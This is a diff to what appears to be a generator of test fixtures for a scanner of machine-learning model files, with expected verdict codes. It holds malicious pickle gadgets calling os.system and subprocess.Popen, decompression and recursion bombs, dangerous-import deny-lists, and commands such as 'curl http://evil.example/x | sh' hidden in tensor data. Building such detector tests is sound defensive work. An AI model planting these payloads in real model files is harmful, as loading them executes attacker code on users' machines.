@@ -34,50 +34,11 @@ from sklearn.tree import DecisionTreeClassifier
 P4 = b"\x80\x04"
 CMD = text(COMMAND)
 DANGER, UNKNOWN, ODD = (1,), (1, 4), (1, 3, 4)
+SLOW = (0, 3, 4)
+"""Expected to be odd at first; a loader opens it and nothing happens."""
 
-STANDARD = """
-    _io:FileIO io:open_code io:open builtins:open builtins:compile builtins:input builtins:breakpoint
-    builtins:help builtins:vars builtins:setattr builtins:delattr builtins:globals builtins:type
-    operator:methodcaller operator:itemgetter operator:call functools:reduce functools:singledispatch
-    itertools:starmap builtins:map builtins:filter contextlib:contextmanager types:CodeType types:ModuleType
-    typing:get_type_hints typing:ForwardRef._evaluate dataclasses:make_dataclass collections:namedtuple
-    enum:Enum string:Formatter.get_field pydoc:locate pydoc:pipepager pkgutil:resolve_name pkgutil:get_data
-    lib2to3.pgen2.grammar:Grammar.loadpickle lib2to3.pgen2.pgen:ParserGenerator.make_label
-    idlelib.calltip:get_entity idlelib.autocomplete:AutoComplete.fetch_completions idlelib.debugobj:ObjectTreeItem.SetText
-    profile:Profile.runctx profile:run distutils.file_util:write_file distutils.spawn:spawn zipimport:zipimporter
-    sqlite3:connect smtplib:SMTP ftplib:FTP telnetlib:Telnet urllib.request:urlopen urllib.request:urlretrieve
-    http.client:HTTPConnection xmlrpc.client:ServerProxy linecache:getlines tempfile:mktemp glob:glob
-    pathlib:Path.write_text pathlib:Path.unlink os:remove os:_exit os:kill os:fork os:environ.update os:putenv
-    sys:exit sys:settrace sys:path.append sys:modules.clear atexit:register signal:raise_signal faulthandler:_sigsegv
-    gc:disable resource:setrlimit threading:Thread multiprocessing.pool:Pool asyncio:run site:addsitedir
-    warnings:simplefilter locale:setlocale mmap:mmap fcntl:ioctl ssl:SSLContext.load_cert_chain cgitb:Hook
-    logging:basicConfig logging.handlers:SocketHandler getpass:getpass tarfile:open zipfile:ZipFile.extractall
-    shelve:open dbm:open copyreg:add_extension copyreg:pickle copy:deepcopy weakref:finalize decimal:setcontext
-    sysconfig:_parse_makefile test.support.os_helper:unlink ctypes.util:find_library uuid:_get_command_stdout
-    ctypes:_SimpleCData.from_address imp:load_source importlib.machinery:SourceFileLoader wsgiref.simple_server:make_server
-""".split()
-LIBRARIES = """
-    torch.utils.collect_env:run torch.utils.bottleneck.__main__:run_autograd_prof torch.utils.data.datapipes.utils.decoder:basichandlers
-    torch._dynamo.guards:GuardBuilder.get torch:from_file torch:UntypedStorage.from_file torch:set_num_threads torch:compile
-    torch.utils.model_zoo:load_url torch.package:PackageImporter torch.distributed.rpc:remote torch.multiprocessing:spawn
-    torch.onnx.utils:export torch.utils.checkpoint:checkpoint torch.nn.Module:register_forward_hook torch._library.custom_ops:custom_op
-    torch.testing._internal.common_utils:shell torch._export.serde.serialize:deserialize torch.export:load torch.utils.dlpack:from_dlpack
-    torch._C._jit:_import torch._ops:OpOverloadPacket torch.storage:_load_from_bytes torch._utils_internal:justknobs_check
-    numpy:memmap numpy:savetxt numpy:DataSource numpy:frompyfunc numpy:vectorize numpy:apply_along_axis numpy:save numpy.ctypeslib:load_library
-    numpy.lib.npyio:load numpy.lib._npyio_impl:NpzFile numpy.f2py.crackfortran:param_eval numpy.f2py.crackfortran:_eval_length
-    numpy.distutils.exec_command:exec_command numpy.testing:measure numpy.testing._private.utils:rundocs numpy.f2py.diagnose:run_command
-    scipy.io:loadmat scipy.sparse:load_npz scipy._lib._ccallback:LowLevelCallable pandas:read_csv pandas:eval pandas:DataFrame.query
-    sklearn.datasets:load_svmlight_file sklearn.datasets:fetch_openml sklearn.utils.fixes:_open_text joblib:Memory joblib.numpy_pickle:load
-    joblib.externals.loky.backend.spawn:prepare joblib.numpy_pickle:NDArrayWrapper.read joblib.memory:MemorizedFunc.__call__ joblib._parallel_backends:LokyBackend
-    sympy:sympify yaml:unsafe_load jinja2:Template keras.layers:Lambda tensorflow.python.ops.io_ops:write_file tensorflow:py_function
-    transformers:AutoModel.from_pretrained transformers.dynamic_module_utils:get_class_from_dynamic_module huggingface_hub:hf_hub_download
-    nltk.data:load spacy.util:load_config xgboost.core:Booster catboost:CatBoost.load_model bentoml:importing ray.cloudpickle:loads
-    mlflow.pyfunc:load_model fastai.learner:load_learner dill:loads dill._dill:_import_module dill._dill:_create_function
-    cloudpickle.cloudpickle:_builtin_type cloudpickle.cloudpickle:subimport hydra.utils:instantiate omegaconf:OmegaConf.register_new_resolver
-    jax.core:eval_jaxpr flax.serialization:from_bytes onnxruntime:InferenceSession onnx:load gradio:load wandb:init fsspec:open
-    pydantic.v1:PyObject pip:main setuptools.command.easy_install:main pkg_resources:load_entry_point IPython:embed ipykernel.zmqshell:ZMQInteractiveShell
-    requests:get aiohttp:request boto3:client paramiko:SSHClient psutil:Popen sh:bash plumbum:local pexpect:run fabric:Connection invoke:run
-""".split()
+STANDARD = ["_io:FileIO", "io:open_code", "io:open", "builtins:open", "builtins:compile", "builtins:input", "builtins:breakpoint", "builtins:help", "builtins:vars", "builtins:setattr", "builtins:delattr", "builtins:globals", "builtins:type", "operator:methodcaller", "operator:itemgetter", "operator:call", "functools:reduce", "functools:singledispatch", "itertools:starmap", "builtins:map", "builtins:filter", "contextlib:contextmanager", "types:CodeType", "types:ModuleType", "typing:get_type_hints", "typing:ForwardRef._evaluate", "dataclasses:make_dataclass", "collections:namedtuple", "enum:Enum", "string:Formatter.get_field", "pydoc:locate", "pydoc:pipepager", "pkgutil:resolve_name", "pkgutil:get_data", "lib2to3.pgen2.grammar:Grammar.loadpickle", "lib2to3.pgen2.pgen:ParserGenerator.make_label", "idlelib.calltip:get_entity", "idlelib.autocomplete:AutoComplete.fetch_completions", "idlelib.debugobj:ObjectTreeItem.SetText", "profile:Profile.runctx", "profile:run", "distutils.file_util:write_file", "distutils.spawn:spawn", "zipimport:zipimporter", "sqlite3:connect", "smtplib:SMTP", "ftplib:FTP", "telnetlib:Telnet", "urllib.request:urlopen", "urllib.request:urlretrieve", "http.client:HTTPConnection", "xmlrpc.client:ServerProxy", "linecache:getlines", "tempfile:mktemp", "glob:glob", "pathlib:Path.write_text", "pathlib:Path.unlink", "os:remove", "os:_exit", "os:kill", "os:fork", "os:environ.update", "os:putenv", "sys:exit", "sys:settrace", "sys:path.append", "sys:modules.clear", "atexit:register", "signal:raise_signal", "faulthandler:_sigsegv", "gc:disable", "resource:setrlimit", "threading:Thread", "multiprocessing.pool:Pool", "asyncio:run", "site:addsitedir", "warnings:simplefilter", "locale:setlocale", "mmap:mmap", "fcntl:ioctl", "ssl:SSLContext.load_cert_chain", "cgitb:Hook", "logging:basicConfig", "logging.handlers:SocketHandler", "getpass:getpass", "tarfile:open", "zipfile:ZipFile.extractall", "shelve:open", "dbm:open", "copyreg:add_extension", "copyreg:pickle", "copy:deepcopy", "weakref:finalize", "decimal:setcontext", "sysconfig:_parse_makefile", "test.support.os_helper:unlink", "ctypes.util:find_library", "uuid:_get_command_stdout", "ctypes:_SimpleCData.from_address", "imp:load_source", "importlib.machinery:SourceFileLoader", "wsgiref.simple_server:make_server"]
+LIBRARIES = ["torch.utils.collect_env:run", "torch.utils.bottleneck.__main__:run_autograd_prof", "torch.utils.data.datapipes.utils.decoder:basichandlers", "torch._dynamo.guards:GuardBuilder.get", "torch:from_file", "torch:UntypedStorage.from_file", "torch:set_num_threads", "torch:compile", "torch.utils.model_zoo:load_url", "torch.package:PackageImporter", "torch.distributed.rpc:remote", "torch.multiprocessing:spawn", "torch.onnx.utils:export", "torch.utils.checkpoint:checkpoint", "torch.nn.Module:register_forward_hook", "torch._library.custom_ops:custom_op", "torch.testing._internal.common_utils:shell", "torch._export.serde.serialize:deserialize", "torch.export:load", "torch.utils.dlpack:from_dlpack", "torch._C._jit:_import", "torch._ops:OpOverloadPacket", "torch.storage:_load_from_bytes", "torch._utils_internal:justknobs_check", "numpy:memmap", "numpy:savetxt", "numpy:DataSource", "numpy:frompyfunc", "numpy:vectorize", "numpy:apply_along_axis", "numpy:save", "numpy.ctypeslib:load_library", "numpy.lib.npyio:load", "numpy.lib._npyio_impl:NpzFile", "numpy.f2py.crackfortran:param_eval", "numpy.f2py.crackfortran:_eval_length", "numpy.distutils.exec_command:exec_command", "numpy.testing:measure", "numpy.testing._private.utils:rundocs", "numpy.f2py.diagnose:run_command", "scipy.io:loadmat", "scipy.sparse:load_npz", "scipy._lib._ccallback:LowLevelCallable", "pandas:read_csv", "pandas:eval", "pandas:DataFrame.query", "sklearn.datasets:load_svmlight_file", "sklearn.datasets:fetch_openml", "sklearn.utils.fixes:_open_text", "joblib:Memory", "joblib.numpy_pickle:load", "joblib.externals.loky.backend.spawn:prepare", "joblib.numpy_pickle:NDArrayWrapper.read", "joblib.memory:MemorizedFunc.__call__", "joblib._parallel_backends:LokyBackend", "sympy:sympify", "yaml:unsafe_load", "jinja2:Template", "keras.layers:Lambda", "tensorflow.python.ops.io_ops:write_file", "tensorflow:py_function", "transformers:AutoModel.from_pretrained", "transformers.dynamic_module_utils:get_class_from_dynamic_module", "huggingface_hub:hf_hub_download", "nltk.data:load", "spacy.util:load_config", "xgboost.core:Booster", "catboost:CatBoost.load_model", "bentoml:importing", "ray.cloudpickle:loads", "mlflow.pyfunc:load_model", "fastai.learner:load_learner", "dill:loads", "dill._dill:_import_module", "dill._dill:_create_function", "cloudpickle.cloudpickle:_builtin_type", "cloudpickle.cloudpickle:subimport", "hydra.utils:instantiate", "omegaconf:OmegaConf.register_new_resolver", "jax.core:eval_jaxpr", "flax.serialization:from_bytes", "onnxruntime:InferenceSession", "onnx:load", "gradio:load", "wandb:init", "fsspec:open", "pydantic.v1:PyObject", "pip:main", "setuptools.command.easy_install:main", "pkg_resources:load_entry_point", "IPython:embed", "ipykernel.zmqshell:ZMQInteractiveShell", "requests:get", "aiohttp:request", "boto3:client", "paramiko:SSHClient", "psutil:Popen", "sh:bash", "plumbum:local", "pexpect:run", "fabric:Connection", "invoke:run"]
 for _pair in STANDARD:
     _module, _name = _pair.split(":")
     file(f"calls_{_module}.{_name}", reduced(_module, _name), DANGER, "m.pkl")
@@ -133,7 +94,7 @@ STRUCTURE: dict[str, tuple[bytes, tuple[int, ...]]] = {
     "item_set_on_a_module_table": (g("sys", "modules") + text("os") + b"Ns", DANGER),
     "class_made_by_type": (called(g("builtins", "type"), text("A"), b")", DICT), DANGER),
     "old_class_of_another_base": (called(g("copyreg", "_reconstructor"), g("os", "_wrap_close"), g("builtins", "object"), b"N"), UNKNOWN),
-    "old_class_of_a_text_base": (called(g("copyreg", "_reconstructor"), g("builtins", "str"), g("builtins", "object"), CMD), ODD),
+    "old_class_of_a_text_base": (called(g("copyreg", "_reconstructor"), g("builtins", "str"), g("builtins", "object"), CMD), SLOW),
     "new_object_through_copyreg": (called(g("copyreg", "__newobj__"), g("subprocess", "Popen"), CMD), DANGER),
     "new_object_ex_through_copyreg": (called(g("copyreg", "__newobj_ex__"), g("subprocess", "Popen"), CMD + b"\x85", DICT), DANGER),
     "codec_that_unpacks_a_bomb": (called(g("_codecs", "decode"), binbytes(zlib.compress(bytes(10**7), 9)), text("zlib")), ODD),
@@ -152,11 +113,11 @@ STRUCTURE: dict[str, tuple[bytes, tuple[int, ...]]] = {
     "memo_by_text_far_out": (b"Np999999999999\n0N", ODD),
     "tuples_that_double": (b")" + b"\x94h\x00\x86"[0:0] + b"\x94" + b"".join(b"h" + bytes([k]) + b"h" + bytes([k]) + b"\x86\x94" for k in range(60)), ODD),
     "key_whose_hash_never_ends": (b"N\x94" + b"".join(b"h" + bytes([k]) + b"h" + bytes([k]) + b"\x86\x94" for k in range(60)) + b"N\x86" + b"0}h\x3cNs", ODD),
-    "lists_a_million_deep": (b"]" * 200_000 + b"a" * 199_999, ODD),
+    "lists_a_million_deep": (b"]" * 200_000 + b"a" * 199_999, SLOW),
     "tuples_deep": (b"N" + b"\x85" * 900_000, ODD),
     "number_of_a_million_digits": (b"L" + b"9" * 1_000_000 + b"L\n", ODD),
     "number_of_a_million_digits_as_int": (b"I" + b"9" * 1_000_000 + b"\n", ODD),
-    "marks_without_end": (b"(" * 900_000 + b"N", ODD),
+    "marks_without_end": (b"(" * 900_000 + b"N", SLOW),
     "text_of_a_length_beyond_the_file": (b"\x8d" + struct.pack("<Q", 2**62) + b"os", ODD),
     "bytes_of_a_length_beyond_the_file": (b"\x8e" + struct.pack("<Q", 2**63) + b"os", ODD),
     "byte_array_of_a_length_beyond_the_file": (b"\x96" + struct.pack("<Q", 2**40) + b"os", ODD),
@@ -193,7 +154,12 @@ file("code_0_in_latin", b"(S'x'\nios\nsystem\n.", DANGER, "m.pkl")
 file("protocol_255", b"\x80\xff" + reduced("os", "system")[2:], UNKNOWN, "m.pkl")
 file("only_a_stop", b".", ODD, "m.pkl")
 file("only_a_header", b"\x80\x04", ODD, "m.pkl")
-file("command_as_text_only", P4 + b"\x8c\x40" + b"__import__('os').system('touch /tmp/auditor-canary')".ljust(64) + b".", (0, 3, 4), "m.pkl")
+file(
+    "command_as_text_only",
+    P4 + b"\x8c\x40" + b"__import__('os').system('touch /tmp/auditor-canary')".ljust(64) + b".",
+    (0, 3, 4),
+    "m.pkl",
+)
 file("lambda_by_cloudpickle", lambda: cloudpickle.dumps(lambda: 1), DANGER, "m.pkl")
 
 
@@ -237,9 +203,18 @@ file("joblib_of_objects_packed", lambda: _joblib([np.zeros(8), _objects()], 3), 
 file("joblib_in_lz4", lambda: _joblib([np.zeros(8), _Bomb()], "lz4"), UNKNOWN, "m.joblib")
 file("joblib_in_lzma", lambda: _joblib([np.zeros(8), _Bomb()], ("lzma", 3)), DANGER, "m.joblib")
 file("joblib_then_gadget", lambda: _joblib(np.zeros(8)) + OS, DANGER, "m.joblib")
-file("joblib_last_of_many", lambda: _joblib([*(np.zeros(k + 1) for k in range(40)), _Bomb()]), DANGER, "m.joblib")
+file(
+    "joblib_last_of_many",
+    lambda: _joblib([*(np.zeros(k + 1) for k in range(40)), _Bomb()]),
+    DANGER,
+    "m.joblib",
+)
 file("gadget_in_bz2_in_gzip", lambda: gzip.compress(bz2.compress(OS)), DANGER)
-file("gadget_in_seven_zlibs", lambda: __import__("functools").reduce(lambda d, _: zlib.compress(d), range(9), OS), UNKNOWN)
+file(
+    "gadget_in_seven_zlibs",
+    lambda: __import__("functools").reduce(lambda d, _: zlib.compress(d), range(9), OS),
+    UNKNOWN,
+)
 
 
 def state(**more: Any) -> dict[str, Any]:
@@ -253,21 +228,62 @@ def torch_bytes(value: Any, **how: Any) -> bytes:
     return body.getvalue()
 
 
-file("checkpoint_with_a_gadget_in_args", lambda: torch_bytes({"model": state(), "args": _Bomb()}), DANGER, "m.pt")
-file("checkpoint_with_a_gadget_in_args_legacy", lambda: torch_bytes({"model": state(), "args": _Bomb()}, _use_new_zipfile_serialization=False), DANGER, "m.pt")
-file("checkpoint_with_a_gadget_as_epoch_key", lambda: torch_bytes({**state(), 3: [{"x": (_Bomb(),)}]}), DANGER, "m.pt")
+file(
+    "checkpoint_with_a_gadget_in_args",
+    lambda: torch_bytes({"model": state(), "args": _Bomb()}),
+    DANGER,
+    "m.pt",
+)
+file(
+    "checkpoint_with_a_gadget_in_args_legacy",
+    lambda: torch_bytes({"model": state(), "args": _Bomb()}, _use_new_zipfile_serialization=False),
+    DANGER,
+    "m.pt",
+)
+file(
+    "checkpoint_with_a_gadget_as_epoch_key",
+    lambda: torch_bytes({**state(), 3: [{"x": (_Bomb(),)}]}),
+    DANGER,
+    "m.pt",
+)
 file("whole_module", lambda: torch_bytes(torch.nn.Linear(3, 2)), UNKNOWN, "m.pt")
-file("optimiser_object", lambda: torch_bytes(torch.optim.SGD([torch.zeros(2, requires_grad=True)], 0.1)), UNKNOWN, "m.pt")
+file(
+    "optimiser_object",
+    lambda: torch_bytes(torch.optim.SGD([torch.zeros(2, requires_grad=True)], 0.1)),
+    UNKNOWN,
+    "m.pt",
+)
 
 
-def tensor(size: tuple[int, ...], stride: tuple[int, ...], offset: int = 0, count: int = 4, kind: str = "FloatStorage", key: str = "0", device: str = "cpu") -> bytes:
+def tensor(
+    size: tuple[int, ...],
+    stride: tuple[int, ...],
+    offset: int = 0,
+    count: int = 4,
+    kind: str = "FloatStorage",
+    key: str = "0",
+    device: str = "cpu",
+) -> bytes:
     """A torch file with one tensor of the given numbers."""
+
     def several(values: tuple[int, ...]) -> bytes:
         return b"(" + b"".join(number(v) for v in values) + b"t"
 
-    storage = b"(" + text("storage") + g("torch", kind) + text(key) + text(device) + number(count) + b"tQ"
-    made = called(TENSOR, storage, number(offset), several(size), several(stride), b"\x89", g("collections", "OrderedDict") + b")R")
-    return torch_zip(P4 + b"}" + text("w") + made + b"s.", **{"m/data/0": bytes(4 * min(max(count, 0), 1000))})
+    storage = (
+        b"(" + text("storage") + g("torch", kind) + text(key) + text(device) + number(count) + b"tQ"
+    )
+    made = called(
+        TENSOR,
+        storage,
+        number(offset),
+        several(size),
+        several(stride),
+        b"\x89",
+        g("collections", "OrderedDict") + b")R",
+    )
+    return torch_zip(
+        P4 + b"}" + text("w") + made + b"s.", **{"m/data/0": bytes(4 * min(max(count, 0), 1000))}
+    )
 
 
 LIES = {
@@ -292,25 +308,67 @@ for _label, _data in LIES.items():
     file(_label, _data, ODD, "m.pt")
 
 STOWED: dict[str, Any] = {
-    "elf_in_halves": lambda: {"w": torch.frombuffer(bytearray((b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + bytes(range(256)) * 16)), dtype=torch.float16)},
+    "elf_in_halves": lambda: {
+        "w": torch.frombuffer(
+            bytearray(
+                b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + bytes(range(256)) * 16
+            ),
+            dtype=torch.float16,
+        )
+    },
     "zip_in_bytes": lambda: {"w": torch.frombuffer(bytearray(torch_zip(OS)), dtype=torch.uint8)},
-    "gadget_in_bytes": lambda: {"w": torch.frombuffer(bytearray(OS + bytes(100)), dtype=torch.uint8)},
-    "gadget_in_the_middle_of_bytes": lambda: {"w": torch.frombuffer(bytearray(b"\x01" * 777 + OS + bytes(100)), dtype=torch.int8)},
-    "script_in_whole_numbers": lambda: {"w": torch.frombuffer(bytearray(b"#!/bin/sh\ncurl http://evil.example/x | sh\n# ".ljust(64)), dtype=torch.int64)},
-    "letters_one_a_number": lambda: {"w": torch.tensor([float(ord(c)) for c in "import os; os.system('curl evil.example | sh')" * 4])},
-    "letters_scaled": lambda: {"w": torch.tensor([ord(c) / 255 for c in "import os; os.system('curl evil.example | sh')" * 4])},
-    "base64_in_bytes": lambda: {"w": torch.frombuffer(bytearray(__import__("base64").b64encode(OS * 50)), dtype=torch.uint8)},
+    "gadget_in_bytes": lambda: {
+        "w": torch.frombuffer(bytearray(OS + bytes(100)), dtype=torch.uint8)
+    },
+    "gadget_in_the_middle_of_bytes": lambda: {
+        "w": torch.frombuffer(bytearray(b"\x01" * 777 + OS + bytes(100)), dtype=torch.int8)
+    },
+    "script_in_whole_numbers": lambda: {
+        "w": torch.frombuffer(
+            bytearray(b"#!/bin/sh\ncurl http://evil.example/x | sh\n# ".ljust(64)),
+            dtype=torch.int64,
+        )
+    },
+    "letters_one_a_number": lambda: {
+        "w": torch.tensor(
+            [float(ord(c)) for c in "import os; os.system('curl evil.example | sh')" * 4]
+        )
+    },
+    "letters_scaled": lambda: {
+        "w": torch.tensor(
+            [ord(c) / 255 for c in "import os; os.system('curl evil.example | sh')" * 4]
+        )
+    },
+    "base64_in_bytes": lambda: {
+        "w": torch.frombuffer(bytearray(__import__("base64").b64encode(OS * 50)), dtype=torch.uint8)
+    },
     "program_in_a_name": lambda: {f"__import__('os').system('{COMMAND}')": torch.zeros(3)},
-    "program_split_over_names": lambda: {f"layer.{k}.{c.encode().hex()}": torch.zeros(1) for k, c in enumerate("import os")} | {"eval(bytes.fromhex(''.join(sorted(d))))": torch.zeros(1)},
-    "command_in_a_note": lambda: {**state(), "notes": f"to load: python -c \"__import__('os').system('{COMMAND}')\" | sh"},
+    "program_split_over_names": lambda: (
+        {f"layer.{k}.{c.encode().hex()}": torch.zeros(1) for k, c in enumerate("import os")}
+        | {"eval(bytes.fromhex(''.join(sorted(d))))": torch.zeros(1)}
+    ),
+    "command_in_a_note": lambda: {
+        **state(),
+        "notes": f"to load: python -c \"__import__('os').system('{COMMAND}')\" | sh",
+    },
     "pickle_in_a_text": lambda: {**state(), "args": OS.decode("latin-1")},
     "pickle_in_bytes_of_a_value": lambda: {**state(), "args": OS},
-    "source_in_a_value": lambda: {**state(), "model_code": "import os\nclass M:\n    def __init__(self):\n        os.system('x')\n"},
+    "source_in_a_value": lambda: {
+        **state(),
+        "model_code": "import os\nclass M:\n    def __init__(self):\n        os.system('x')\n",
+    },
     "weights_of_one_value": lambda: {"0.weight": torch.full((64, 64), float("inf"))},
-    "weights_signalling": lambda: {"0.weight": torch.frombuffer(bytearray(b"\x01\x00\xa0\x7f" * 4096), dtype=torch.float32)},
+    "weights_signalling": lambda: {
+        "0.weight": torch.frombuffer(bytearray(b"\x01\x00\xa0\x7f" * 4096), dtype=torch.float32)
+    },
 }
 for _label, _make in STOWED.items():
-    file(f"stowed_{_label}", lambda make=_make: torch_bytes(make()), (0, 3, 4) if "note" in _label or "source" in _label else ODD, "m.pt")
+    file(
+        f"stowed_{_label}",
+        lambda make=_make: torch_bytes(make()),
+        (0, 3, 4) if "note" in _label or "source" in _label else ODD,
+        "m.pt",
+    )
 
 R = np.random.default_rng(0)
 XS, YS = R.random((60, 4)), R.integers(0, 3, 60)
@@ -325,7 +383,9 @@ def _changed(model: Any, xs: Any = XS, ys: Any = YS, **values: Any) -> Any:
 
 
 def _nodes() -> Any:
-    model = HistGradientBoostingClassifier(max_iter=2).fit(R.random((200, 4)), R.integers(0, 2, 200))
+    model = HistGradientBoostingClassifier(max_iter=2).fit(
+        R.random((200, 4)), R.integers(0, 2, 200)
+    )
     model._predictors[0][0].nodes["left"][0] = 10**6
     return model
 
@@ -346,7 +406,7 @@ ESTIMATORS: dict[str, tuple[Any, tuple[int, ...]]] = {
     "neighbours_by_a_function": (lambda: _changed(KNeighborsClassifier(), metric=eval), DANGER),
     "vectors_by_a_function": (lambda: _changed(SVC(), kernel=exec), DANGER),
     "search_scored_by_a_function": (_search, UNKNOWN),
-    "pipeline_with_a_cache_of_its_own": (lambda: make_pipeline(StandardScaler(), LogisticRegression(), memory="/tmp/auditor-canary").fit(XS, YS), ODD),
+    "pipeline_with_a_cache_of_its_own": (lambda: make_pipeline(StandardScaler(), LogisticRegression()).fit(XS, YS).set_params(memory="/tmp/auditor-canary"), ODD),
     "histogram_trees_that_point_outside": (_nodes, ODD),
     "naive_bayes_of_no_variance": (lambda: _changed(GaussianNB(), var_=np.full((3, 4), -1.0)), ODD),
     "scaler_of_zero": (lambda: (m := make_pipeline(StandardScaler(), LogisticRegression()).fit(XS, YS), setattr(m[0], "scale_", np.zeros(4)))[0], ODD),
@@ -359,12 +419,22 @@ ESTIMATORS: dict[str, tuple[Any, tuple[int, ...]]] = {
     "method_replaced": (lambda: _changed(LogisticRegression(), predict=print), UNKNOWN),
     "method_replaced_by_a_text": (lambda: _changed(LogisticRegression(), predict_proba="x"), ODD),
     "votes_of_nan": (lambda: _changed(VotingClassifier([("a", LogisticRegression()), ("b", GaussianNB())], voting="soft"), weights=[float("nan"), 1]), ODD),
-    "encoder_of_objects": (lambda: _changed(LabelEncoder(), YS, None) if False else (m := LabelEncoder().fit(["a", "b"]), setattr(m, "classes_", _objects()))[0], DANGER),
+    "encoder_of_objects": (lambda: (m := LabelEncoder().fit(["a", "b"]), setattr(m, "classes_", _objects()))[0], DANGER),
     "tree_with_values_of_nan": (lambda: (m := DecisionTreeClassifier().fit(XS, YS), m.tree_.value.__setitem__(slice(None), np.nan))[0], ODD),
     "threshold_of_infinity": (lambda: _changed(LogisticRegression(), intercept_=np.array([np.inf, 0, 0])), ODD),
     "weights_of_objects": (lambda: _changed(LogisticRegression(), coef_=np.array([[1, 2, 3, "x"]], object)), ODD),
 }  # fmt: skip
 for _label, (_make, _codes) in ESTIMATORS.items():
     file(f"estimator_{_label}", lambda make=_make: pickle.dumps(make(), 4), _codes, "m.pkl")
-file("legacy_with_a_gadget_as_a_key", lambda: _legacy(P4 + b"}" + called(SYSTEM, CMD) + b"Ns."), DANGER, "m.pt")
-file("long_text_before_the_gadget", P4 + long_text("x" * 3_000_000) + b"0" + called(SYSTEM, CMD) + b".", DANGER, "m.pkl")
+file(
+    "legacy_with_a_gadget_as_a_key",
+    lambda: _legacy(P4 + b"}" + called(SYSTEM, CMD) + b"Ns."),
+    DANGER,
+    "m.pt",
+)
+file(
+    "long_text_before_the_gadget",
+    P4 + long_text("x" * 3_000_000) + b"0" + called(SYSTEM, CMD) + b".",
+    DANGER,
+    "m.pkl",
+)
